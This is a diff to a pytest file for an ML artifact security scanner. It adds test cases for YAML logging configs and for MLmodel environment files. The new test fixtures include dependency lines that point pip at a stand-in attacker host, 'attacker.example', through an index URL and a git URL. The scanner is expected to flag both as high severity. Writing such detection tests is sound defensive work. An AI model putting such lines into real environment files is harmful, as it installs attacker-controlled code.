@@ -22,6 +22,7 @@ import zipfile
 from pathlib import Path
 
 import pytest
+import yaml
 from scan_helpers import scan_named
 
 from mlsecure.artifacts.formats import ArtifactFormat
@@ -82,8 +83,6 @@ DICT_CONFIGS = {
 def test_logging_dict_config_factories(tmp_path: Path, case: str, container: str) -> None:
     body, severity = DICT_CONFIGS[case]
     document = {"version": 1, **body}
-    import yaml
-
     text = json.dumps(document) if container.endswith(".json") else yaml.safe_dump(document)
     verdict, top, titles = _scan(tmp_path, container, text)
     assert top is severity and verdict is not Verdict.SAFE, titles
@@ -139,6 +138,8 @@ BENIGN_DICT_CONFIG = {"version": 1, "disable_existing_loggers": False,
 @pytest.mark.parametrize(("name", "text"), [
     ("logging.ini", BENIGN_FILE_CONFIG), ("logging.json", json.dumps(BENIGN_DICT_CONFIG)),
     ("logging.yaml", json.dumps(BENIGN_DICT_CONFIG)),
+    # as YAML: main flagged ``class: logging.StreamHandler`` critical (read as Hydra 1.0's ``class`` key)
+    ("logging_config.yaml", yaml.safe_dump(BENIGN_DICT_CONFIG)),
     ("setup.cfg", "[metadata]\nname = x\nversion = 1.0\n[options]\npackages = find:\nclass = x\n"),
     ("tox.ini", "[tox]\nenvlist = py311\n[testenv]\ncommands = pytest {posargs}\n"),
     ("calls.json", json.dumps({"api": {"()": "not a dictConfig: no version key"}})),
@@ -504,3 +505,15 @@ def test_dict_config_version_spelled_otherwise(tmp_path: Path, version: str) -> 
 def test_file_config_after_comment_lines(tmp_path: Path, prefix: str) -> None:
     text, severity = FILE_CONFIGS["class-os-system"]
     assert _scan(tmp_path, "logging.ini", prefix + text)[1] is severity
+
+
+@pytest.mark.parametrize(("name", "text"), [
+    ("env.yaml", "python: 3.11.7\ndependencies:\n- --index-url https://attacker.example/simple\n- mlflow\n"),
+    ("my_env.yml", "channels:\n- conda-forge\ndependencies:\n- pip:\n  - git+https://attacker.example/p.git\n"),
+])
+def test_environment_files_under_the_name_mlmodel_gives_them(tmp_path: Path, name: str, text: str) -> None:
+    """MLmodel's ``env: {virtualenv: env.yaml}`` may name its environment file anything."""
+    assert _scan(tmp_path, name, text)[1] is Severity.HIGH
+    benign = "python: 3.11.7\nbuild_dependencies:\n- pip\ndependencies:\n- -r requirements.txt\n"
+    verdict, top, titles = _scan(tmp_path, name, benign)
+    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles
